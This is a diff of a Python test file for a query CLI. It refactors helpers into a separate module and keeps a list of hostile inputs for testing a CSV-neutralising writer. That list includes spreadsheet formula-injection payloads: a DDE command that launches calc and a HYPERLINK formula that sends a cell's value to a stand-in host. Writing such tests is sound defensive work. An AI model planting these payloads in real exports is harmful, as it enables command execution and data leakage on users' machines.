@@ -13,13 +13,14 @@ import os
 import signal
 import subprocess
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from helpers import cli_args as _conn
+from helpers import read_csv as _rows
+from helpers import run_cli as _run
 
-from scale_query import Client, Query, RetryPolicy
-from scale_query.cli import main
+from scale_query import Client, Query
 from scale_query.cli._atomic import write_atomic
 from scale_query.cli.data._text_tables import write_table
 from scale_query.cli.data._writers import neutralise, restore
@@ -28,7 +29,6 @@ from scale_query.language._syntax_error import excerpt, for_terminal
 pytest.importorskip("uvicorn")
 from scale_query.emulator import Emulator
 
-FAST = RetryPolicy(retries=3, base=0.001, cap=0.01)
 HOSTILE = [
     '=cmd|"/c calc"!A1',
     '=HYPERLINK("http://x.example/?q="&A1,"click")',
@@ -41,34 +41,6 @@ HOSTILE = [
     "a\rb",
     "-12.50",
 ]
-
-
-def _conn(emu: Emulator, token: str | None = None) -> list[str]:
-    return ["--token", token or emu.token, "--instance", emu.instance, "--base-url", emu.base_url]
-
-
-@pytest.fixture
-def emu(scale_emulator: Emulator, monkeypatch: pytest.MonkeyPatch) -> Emulator:
-    for name in ("SCALE_TOKEN", "SCALE_INSTANCE", "SCALE_BASE_URL"):
-        monkeypatch.delenv(name, raising=False)
-    return scale_emulator
-
-
-@pytest.fixture
-def client(emu: Emulator) -> Iterator[Client]:
-    with Client(token=emu.token, instance=emu.instance, base_url=emu.base_url, retries=FAST) as c:
-        yield c
-
-
-def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
-    code = main(list(argv))
-    out, err = capsys.readouterr()
-    return code, out, err
-
-
-def _rows(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8", newline="") as handle:
-        return list(csv.DictReader(handle))
 
 
 def _hostile_contacts(client: Client) -> list[str]:
